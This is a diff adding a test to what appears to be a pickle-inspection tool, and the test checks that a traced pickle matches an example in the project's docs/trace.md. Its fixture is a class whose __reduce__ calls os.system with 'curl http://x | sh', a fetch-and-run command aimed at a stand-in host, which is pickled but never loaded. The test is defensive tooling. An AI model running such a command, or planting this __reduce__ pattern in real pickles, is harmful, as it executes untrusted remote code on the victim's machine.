@@ -6,6 +6,7 @@ import collections
 import os
 import pickle
 import re
+from pathlib import Path
 
 import pytest
 
@@ -41,6 +42,19 @@ def test_a_pickle_reads_like_the_program_that_it_is() -> None:
         "_1.update({'a': 1})",
         f"return {{'w': [1, 2, 3], 'bad': _0, 'o': _1, 't': (1,), 'text': '{'x' * 120}'… (500 in all)}}",
     ]
+
+
+def test_the_page_on_traces_shows_what_is_written() -> None:
+    class Fetches:
+        def __reduce__(self) -> object:
+            return (os.system, ("curl http://x | sh",))
+
+    value = {"w": [1, 2, 3], "e": Fetches(), "o": collections.OrderedDict(a=1)}
+    trace = Trace()
+    traced(Reader(MemorySource(pickle.dumps(value, 4))), [0], Limits(), trace)
+    shown = "\n".join(f"{statement.offset:>10}  {statement.text}" for statement in trace.statements)
+    page = (Path(__file__).parents[2] / "docs" / "trace.md").read_text(encoding="utf-8")
+    assert f"```\n# model.pkl\n{shown}\n```" in page
 
 
 def test_what_is_thrown_away_still_shows() -> None:
